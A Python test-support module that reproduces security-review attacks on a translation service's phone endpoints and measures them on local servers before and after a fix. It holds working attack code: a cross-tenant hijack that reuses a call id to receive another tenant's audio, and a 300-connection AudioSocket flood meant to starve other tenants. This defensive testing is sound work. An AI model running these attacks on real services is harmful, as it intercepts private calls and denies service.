"""The security review's attacks on the phone door (issue 57), one function per attack, and a run
that measures them against real servers, before and after a fix:

    PYTHONPATH=$PWD python -m tests.support.attacks.phone measure --checkout /tmp/base --checkout . \\
        --json out/attacks-phone57.json

Each attack is an async function over a server's addresses (and tokens) that returns what its
clients saw, as plain values. ``measure`` starts a real ``translate-svc serve --phone`` of each
checkout (its code first on the path; the stable test translator, a tokens file of three tenants)
and runs every attack against a fresh server each:

- ``pair_hijack`` (the high finding): tenant ``acme``'s caller names ``call=support-42`` and
  speaks (jfk.flac, at real time); a leg of tenant ``rival`` names the same call id, says a few
  seconds and stays on the line; 5 s in, acme's real second leg joins. Reported: the seconds of
  audio and the segments (marks) the foreign leg received, what the caller heard before the second
  leg joined, and whether the second leg paired (its close code, the segments it heard).
- ``silent_audiosocket`` (the medium finding): 300 AudioSocket connections that each send the
  call's UUID and one audio frame, then only read, reconnecting whenever the server ends one, for
  ``seconds``; meanwhile tenant ``other``'s phone call handshakes (Twilio path, its token) and gRPC
  StreamingTranslate calls every 2 s. Reported: AudioSocket calls served and refused, the other
  tenant's refusals, and the bytes the server logged meanwhile (the low-medium finding).

The peers are written from the carriers' published formats, not from our code: Twilio's "Media
Streams - WebSocket Messages" page (``connected``, ``start`` with ``customParameters``, ``media``
every 20 ms as base64 µ-law 8 kHz, ``mark`` echoed, ``stop``;
https://www.twilio.com/docs/voice/media-streams/websocket-messages) and Asterisk's "AudioSocket"
page (a 3-byte header, kind then big-endian length: ``0x01`` the UUID, ``0x10`` slin 8 kHz,
``0x00`` hang-up, ``0xff`` error; https://docs.asterisk.org/Configuration/Channel-Drivers/AudioSocket/).
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import numpy as np
import soundfile as sf
import soxr

from tests.support.attacks.bystander import probe
from tests.support.attacks.checkouts import add_measure, commit, save_runs
from tests.support.paths import SHARED_AUDIO
from tests.support.proc import free_port

FRAME_S = 0.02
#: the tokens file ``measure`` serves with: two tenants for the two-party attack, a third that
#: only wants its own calls served
TOKENS = {
    "acme": "phone57-acme-token-9c1e",
    "rival": "phone57-rival-token-4d7a",
    "other": "phone57-other-token-2b88",
}
TOKENS_FILE = "".join(f"{token} * tenant={tenant}\n" for tenant, token in TOKENS.items())
MULAW_SILENCE = b"\xff"


def ulaw_8k(path: Path, seconds: float) -> bytes:
    """The first ``seconds`` of a speech file as 8 kHz µ-law, by soxr and libsndfile."""
    pcm, rate = sf.read(path, dtype="float32", always_2d=True)
    mono = pcm[: int(rate * seconds)].mean(axis=1)
    at_8k = soxr.resample(mono, rate, 8000) if rate != 8000 else mono
    buf = io.BytesIO()
    sf.write(buf, np.clip(at_8k, -1, 1), 8000, format="RAW", subtype="ULAW")
    return buf.getvalue()


# -- a Twilio Media Stream leg (Twilio's published messages) ----------------------------------------


@dataclass
class Leg:
    """What one Twilio leg saw: µ-law bytes of speech it was sent (with when), marks, its close."""

    media: list[tuple[float, int]] = field(default_factory=list)
    marks: list[str] = field(default_factory=list)
    close_code: int | None = None
    refused: int | None = None  # an HTTP status instead of the upgrade

    def seconds(self, before: float | None = None) -> float:
        return sum(n for t, n in self.media if before is None or t < before) / 8000

    def summary(self) -> dict[str, Any]:
        return {
            "audio_received_s": round(self.seconds(), 2),
            "segments_received": len(self.marks),
            "close_code": self.close_code,
            "refused_status": self.refused,
        }


async def twilio_leg(url: str, token: str, custom: dict[str, str], ulaw: bytes, *, linger_s: float = 4.0) -> Leg:
    """One ``<Connect><Stream>`` leg: ``ulaw`` at real time, then silence for ``linger_s``, then
    ``stop``; every ``mark`` is echoed at once (the benchmark times no playout)."""
    leg = Leg()
    loop = asyncio.get_running_loop()
    sid = "MZ" + uuid.uuid4().hex
    headers = {"Authorization": f"Bearer {token}"}
    try:
        async with aiohttp.ClientSession() as http, http.ws_connect(url, headers=headers) as ws:

            async def read() -> None:
                async for msg in ws:
                    if msg.type != aiohttp.WSMsgType.TEXT:
                        continue
                    m = json.loads(msg.data)
                    if m.get("event") == "media":
                        leg.media.append((loop.time(), len(base64.b64decode(m["media"]["payload"]))))
                    elif m.get("event") == "mark":
                        leg.marks.append(m["mark"]["name"])
                        await ws.send_str(json.dumps({"event": "mark", "streamSid": sid, "mark": m["mark"]}))

            reader = loop.create_task(read())
            await ws.send_str(json.dumps({"event": "connected", "protocol": "Call", "version": "1.0.0"}))
            start = {
                "streamSid": sid,
                "callSid": "CA" + uuid.uuid4().hex,
                "tracks": ["inbound"],
                "customParameters": custom,
                "mediaFormat": {"encoding": "audio/x-mulaw", "sampleRate": 8000, "channels": 1},
            }
            await ws.send_str(json.dumps({"event": "start", "sequenceNumber": "1", "streamSid": sid, "start": start}))
            audio = ulaw + MULAW_SILENCE * int(8000 * linger_s)
            t0 = loop.time()
            for n, i in enumerate(range(0, len(audio), 160), 1):
                if ws.closed:
                    break
                payload = base64.b64encode(audio[i : i + 160]).decode()
                media = {"track": "inbound", "chunk": str(n), "timestamp": str(20 * n), "payload": payload}
                await ws.send_str(json.dumps({"event": "media", "streamSid": sid, "media": media}))
                await asyncio.sleep(max(0.0, t0 + n * FRAME_S - loop.time()))
            if not ws.closed:
                await ws.send_str(json.dumps({"event": "stop", "streamSid": sid}))
                await ws.close()
            await reader
            leg.close_code = ws.close_code
    except aiohttp.WSServerHandshakeError as e:
        leg.refused = e.status
    return leg


async def pair_hijack(http_url: str, audio: Path) -> dict[str, Any]:
    """The cross-tenant pair hijack, scaled down (the module's docstring)."""
    loop = asyncio.get_running_loop()
    caller_voice = ulaw_8k(audio / "jfk.flac", 11.0)
    other_voice = ulaw_8k(audio / "silero_test.wav", 4.0)
    url = http_url + "/v1/phone/twilio"
    call = {"call": "support-42"}
    caller = loop.create_task(twilio_leg(url, TOKENS["acme"], {"source": "eng", "target": "spa", **call}, caller_voice))
    foreign = loop.create_task(
        twilio_leg(url, TOKENS["rival"], {"source": "spa", "target": "eng", **call}, other_voice, linger_s=16)
    )
    await asyncio.sleep(5.0)
    second_joined = loop.time()
    second = await twilio_leg(url, TOKENS["acme"], {"source": "spa", "target": "eng", **call}, other_voice)
    caller_leg, foreign_leg = await asyncio.gather(caller, foreign)
    return {
        "foreign_leg": foreign_leg.summary(),
        "caller": {
            **caller_leg.summary(),
            "heard_before_second_leg_s": round(caller_leg.seconds(before=second_joined), 2),
        },
        "second_leg": {**second.summary(), "paired": second.close_code == 1000 and bool(second.marks)},
    }


# -- AudioSocket connections that send one frame, then only read ------------------------------------


def _frame(kind: int, payload: bytes = b"") -> bytes:
    return bytes([kind]) + len(payload).to_bytes(2, "big") + payload


async def silent_audiosocket(
    audiosocket: tuple[str, int], grpc_address: str, http_url: str, *, connections: int = 300, seconds: float = 30.0
) -> dict[str, Any]:
    """300 AudioSocket peers that send the UUID and one 20 ms frame then only read, each
    reconnecting when the server ends its call, for ``seconds``; tenant ``other`` meanwhile."""
    loop = asyncio.get_running_loop()
    end_at = loop.time() + seconds
    counts = {"served": 0, "refused": 0, "ended_by_server": 0, "connect_failed": 0}

    async def peer() -> None:
        while loop.time() < end_at:
            try:
                reader, writer = await asyncio.open_connection(*audiosocket)
            except OSError:
                counts["connect_failed"] += 1
                await asyncio.sleep(0.1)
                continue
            try:
                writer.write(_frame(0x01, uuid.uuid4().bytes) + _frame(0x10, bytes(320)))
                first = b""
                with contextlib.suppress(TimeoutError, ConnectionError):
                    async with asyncio.timeout(max(0.01, end_at - loop.time())):
                        first = await reader.readexactly(3)
                        if first[0] == 0xFF:
                            counts["refused"] += 1
                            continue
                        counts["served"] += 1
                        while await reader.read(65536):  # the pacer's frames, until the server ends it
                            pass
                        counts["ended_by_server"] += 1
            except asyncio.IncompleteReadError:
                counts["refused"] += 1  # closed before a frame
            finally:
                writer.close()

    async def other_tenant() -> list[dict[str, Any]]:
        seen = []
        await asyncio.sleep(3.0)
        while loop.time() < end_at - 2:
            handshake = await _handshake(http_url + "/v1/phone/twilio", TOKENS["other"])
            grpc_seen = await probe(grpc_address, TOKENS["other"])
            seen.append({"phone_handshake": handshake, "streaming_translate": grpc_seen["streaming_translate"]["code"]})
            await asyncio.sleep(2.0)
        return seen

    peers = [loop.create_task(peer()) for _ in range(connections)]
    seen = await other_tenant()
    await asyncio.gather(*peers, return_exceptions=True)
    refused_phone = sum(1 for s in seen if s["phone_handshake"] != 101)
    refused_streams = sum(1 for s in seen if s["streaming_translate"] != "OK")
    return {
        "audiosocket": counts,
        "other_tenant_probes": len(seen),
        "other_tenant_phone_calls_refused": refused_phone,
        "other_tenant_streams_refused": refused_streams,
        "other_tenant": seen,
    }


async def _handshake(url: str, token: str) -> int:
    """A phone call's WebSocket upgrade: 101 when let in (then closed at once), else the status."""
    async with aiohttp.ClientSession() as http:
        try:
            async with http.ws_connect(url, headers={"Authorization": f"Bearer {token}"}) as ws:
                await ws.close()
                return 101
        except aiohttp.WSServerHandshakeError as e:
            return e.status


# -- measure: a server per attack and checkout ------------------------------------------------------


@contextlib.contextmanager
def server(checkout: Path, model: str) -> Iterator[dict[str, Any]]:
    """``translate-svc serve --phone`` of ``checkout`` on the stable translator, with the tokens file
    and AudioSocket on a free port; yields its addresses, its pid and its log file."""
    from translate_svc.cli import ready_file as ready

    tmp = Path(tempfile.mkdtemp(prefix="attacks-phone-"))
    (tmp / "tokens").write_text(TOKENS_FILE)
    aport = free_port()
    cmd = [sys.executable, "-m", "translate_svc.cli", "serve", "--model", model, "--test-translator", "stable"]
    cmd += ["--host", "127.0.0.1", "--port", "0", "--http-port", "0", "--phone", "--audiosocket-port", str(aport)]
    cmd += ["--tokens-file", str(tmp / "tokens"), "--ready-file", str(tmp / "ready.json")]
    env = {**os.environ, "PYTHONPATH": str(checkout)}
    log = tmp / "server.log"
    with log.open("wb") as out:
        proc = subprocess.Popen(cmd, cwd=checkout, stdout=out, stderr=subprocess.STDOUT, env=env)
    try:
        info = ready.wait(tmp / "ready.json", proc, 300)
        yield {
            "grpc": f"127.0.0.1:{info.port}",
            "http": f"http://127.0.0.1:{info.http_port}",
            "audiosocket": ("127.0.0.1", aport),
            "pid": proc.pid,
            "log": log,
        }
    finally:
        proc.terminate()
        proc.wait(60)
        shutil.rmtree(tmp, ignore_errors=True)


async def measure_one(checkout: Path, model: str, audio: Path, seconds: float) -> dict[str, Any]:
    out: dict[str, Any] = {"checkout": str(checkout), "commit": commit(checkout)}
    with server(checkout, model) as srv:
        http_url = srv["http"].replace("http://", "ws://")
        out["pair_hijack"] = await pair_hijack(http_url, audio)
    with server(checkout, model) as srv:
        http_url = srv["http"].replace("http://", "ws://")
        before = srv["log"].stat().st_size
        out["silent_audiosocket"] = await silent_audiosocket(srv["audiosocket"], srv["grpc"], http_url, seconds=seconds)
        out["silent_audiosocket"]["server_log_bytes"] = srv["log"].stat().st_size - before
    return out


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="command", required=True)
    m = add_measure(sub)
    m.add_argument("--audio", type=Path, default=SHARED_AUDIO, help="jfk.flac, silero_test.wav")
    m.add_argument("--seconds", type=float, default=30.0, help="how long the silent AudioSocket peers keep at it")
    opts = ap.parse_args(argv)
    runs = [asyncio.run(measure_one(c.resolve(), opts.model, opts.audio, opts.seconds)) for c in opts.checkout]
    save_runs(runs, opts.json)


if __name__ == "__main__":
    main()
